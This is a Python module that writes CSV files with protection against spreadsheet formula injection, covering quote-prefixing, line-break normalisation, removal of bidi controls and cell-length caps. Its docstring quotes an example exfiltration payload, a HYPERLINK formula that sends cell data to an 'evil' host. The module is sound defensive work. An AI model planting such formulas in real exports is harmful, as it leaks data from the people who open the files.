"""CSV writing with spreadsheet formula injection neutralised.

A post reading ``=HYPERLINK("http://evil/?"&A1,"Click")`` becomes a live formula when the support
team opens complaints.csv in Excel or LibreOffice. OWASP's advice: prefix any text cell starting
with ``= + - @`` (and tab / carriage return, which some spreadsheets skip before parsing) with a
single quote. Only text cells are touched: numbers such as a negative week-over-week change stay
numbers. Files are UTF-8 with a BOM so Excel shows Chinese text correctly.

A line break inside a cell is a second place a formula can start: a reader that splits a row at a
bare CR (LibreOffice does, and Python's csv module does not quote a bare CR when the line terminator
is ``\n``) sees the rest of the cell as a new cell. So every line-break character (CR, CRLF, VT, FF,
NEL, U+2028, U+2029) becomes ``\n``, any cell holding one is quoted, and every line of a cell is
neutralised, not only the first. Bidi controls (U+202A-202E, U+2066-2069, LRM/RLM/ALM) are dropped:
a right-to-left override would otherwise make a cell read backwards. A cell is capped at 32,767
characters, the limit of Excel and LibreOffice cells, ending in :data:`TRUNCATED`.
"""

from __future__ import annotations

import csv
import datetime as dt
import math
import re
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

ENCODING = "utf-8-sig"
_NUMBER = re.compile(r"-?\d+(?:\.\d+)?")
MAX_CELL = 32_767  # Excel's and LibreOffice's cell limit (Excel "specifications and limits")
TRUNCATED = "…[truncated]"
_BREAKS = re.compile("\r\n|[\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029]")
_BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
# A line starting with a formula character, also after spaces (LibreOffice's "trim spaces" import
# option would strip them), or with a tab.
_LINE_START = re.compile("^(?=[ ]*[=+\\-@]|\t)", re.MULTILINE)


def neutralise(value: str) -> str:
    """Text safe for a spreadsheet cell: no line of it can start a formula, no bidi control, capped.

    Idempotent, so cells read back from an earlier file (trend.csv) can go through it again.
    """
    value = _LINE_START.sub("'", _BIDI.sub("", _BREAKS.sub("\n", value)))
    if len(value) > MAX_CELL:
        value = value[:MAX_CELL - len(TRUNCATED)] + TRUNCATED
    return value


def cell(value: Any) -> str:
    """Render one value: '' for missing, ISO for datetimes, trimmed floats, neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        if math.isnan(value) or math.isinf(value):
            return ""
        return f"{value:.4f}".rstrip("0").rstrip(".") if value != int(value) else str(int(value))
    if isinstance(value, int):
        return str(value)
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    return neutralise(str(value))


def write_csv(path: Path, columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> Path:
    """Write ``rows`` (mappings) with exactly ``columns``, in order."""
    with path.open("w", encoding=ENCODING, newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(columns)
        for row in rows:
            w.writerow([cell(row.get(c)) for c in columns])
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    if not path.exists():
        return []
    with path.open(encoding=ENCODING, newline="") as fh:
        return list(csv.DictReader(fh))


def _rendered(value: str) -> str:
    """A cell read back from our own file: numbers as they were (``cell`` wrote them), text re-checked."""
    return value if _NUMBER.fullmatch(value) else neutralise(value)


def write_raw(path: Path, columns: Sequence[str], rows: Iterable[Mapping[str, str]]) -> Path:
    """Rewrite already-rendered rows (trend.csv keeps earlier days' cells as they were written)."""
    with path.open("w", encoding=ENCODING, newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(columns)
        for row in rows:
            w.writerow([_rendered(row.get(c, "") or "") for c in columns])
    return path
